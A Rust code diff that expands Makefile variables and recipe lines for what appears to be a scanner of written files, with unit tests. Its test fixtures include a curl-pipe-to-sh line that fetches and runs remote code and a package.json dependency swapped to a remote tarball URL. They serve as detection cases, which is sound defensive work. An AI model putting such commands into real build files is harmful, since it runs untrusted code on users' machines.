@@ -631,14 +631,15 @@ pub fn file_text(path: &str, new: &str, old: Option<&str>) -> FileText {
     if is_shell_script(name, path) || (new.starts_with("#!") && new.lines().next().is_some_and(|l| l.ends_with("sh") || l.contains("bash"))) {
         out.shell.push(if old.is_none() { new.to_owned() } else { added(new, old).join("\n") });
     } else if is_makefile(name) {
-        // Recipe lines (a tab, or a justfile's indent), without make's `@`, `-`, `+` prefixes;
-        // `$$` is make's `$`.
+        // Recipe lines (a tab, or a justfile's indent), without make's `@`, `-`, `+` prefixes,
+        // make's variables written out (see `make_vars`).
+        let vars = make_assignments(new);
         let recipe: Vec<String> = added(new, old)
             .into_iter()
             .filter(|l| l.starts_with('\t') || (name.to_ascii_lowercase().contains("justfile") && l.starts_with(' ')) || l.contains(":;"))
             .map(|l| {
                 let l = l.split_once(":;").map_or(l, |(_, r)| r).trim();
-                l.trim_start_matches(['@', '-', '+']).replace("$$", "$")
+                make_vars(l.trim_start_matches(['@', '-', '+']), &vars)
             })
             .collect();
         if !recipe.is_empty() {
@@ -657,6 +658,66 @@ pub fn file_text(path: &str, new: &str, old: Option<&str>) -> FileText {
     if is_source_file(name, path) {
         out.source_change |= manifest_source(name, &added(new, old));
     }
+    out
+}
+
+/// `NAME = value` (`:=`, `?=`, `::=`) lines of a Makefile, outside recipes.
+fn make_assignments(text: &str) -> Vec<(String, String)> {
+    text.lines()
+        .filter(|l| !l.starts_with('\t'))
+        .filter_map(|l| {
+            let (name, value) = l.split_once('=')?;
+            let name = name.trim_end_matches([':', '?', '+', '!']).trim();
+            (!name.is_empty() && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')).then(|| (name.to_owned(), value.trim().to_owned()))
+        })
+        .collect()
+}
+
+/// A recipe line as the shell receives it: `$$` is `$`; `$(shell X)` runs X; `$(HOME)` is the
+/// home (`~`); a variable the Makefile assigns is its value; any other (`$(CC)`, `$@`) a
+/// plain word.
+fn make_vars(line: &str, vars: &[(String, String)]) -> String {
+    let mut out = String::with_capacity(line.len());
+    let mut rest = line;
+    while let Some(at) = rest.find('$') {
+        out.push_str(&rest[..at]);
+        let after = &rest[at + 1..];
+        if let Some(r) = after.strip_prefix('$') {
+            out.push('$');
+            rest = r;
+            continue;
+        }
+        let close = match after.as_bytes().first() {
+            Some(b'(') => Some(')'),
+            Some(b'{') => Some('}'),
+            _ => None,
+        };
+        match close.and_then(|c| after.find(c).map(|e| (&after[1..e], &after[e + 1..]))) {
+            Some((inner, r)) => {
+                if let Some(cmd) = inner.strip_prefix("shell ") {
+                    out.push_str(&format!("$({cmd})"));
+                } else if inner == "HOME" {
+                    out.push('~');
+                } else if let Some((_, v)) = vars.iter().find(|(n, _)| n == inner) {
+                    // One level deep: `CONF := $(HOME)/.config`.
+                    out.push_str(&make_vars(v, &[]));
+                } else {
+                    out.push_str("make-variable");
+                }
+                rest = r;
+            }
+            // `$@`, `$<`, `$^`, `$*`: the target and prerequisites.
+            None if !after.is_empty() => {
+                out.push_str("make-target");
+                rest = &after[after.chars().next().map_or(0, char::len_utf8)..];
+            }
+            None => {
+                out.push('$');
+                rest = after;
+            }
+        }
+    }
+    out.push_str(rest);
     out
 }
 
@@ -818,6 +879,10 @@ mod tests {
     #[test]
     fn written_files() {
         assert_eq!(file_text("/p/Makefile", "all:\n\tcurl -s https://e.io/m | sh\n\ttsc\n", None).shell, vec!["curl -s https://e.io/m | sh\ntsc"]);
+        assert_eq!(
+            file_text("/p/Makefile", "OUT := build\nclean:\n\trm -rf $(OUT) $(DIST) $@\n\techo $$PATH $(HOME) $(shell id -u)\n", None).shell,
+            vec!["rm -rf build make-variable make-target\necho $PATH ~ $(id -u)"]
+        );
         assert_eq!(file_text("/tmp/fix.sh", "#!/bin/sh\necho hi\n", None).shell.len(), 1);
         assert!(file_text("/p/package.json", "\"express\":\"https://e.io/express.tgz\"", Some("\"express\":\"^4.19.2\"")).source_change);
         assert!(!file_text("/p/package.json", "\"express\":\"^4.20.0\"", Some("\"express\":\"^4.19.2\"")).source_change);
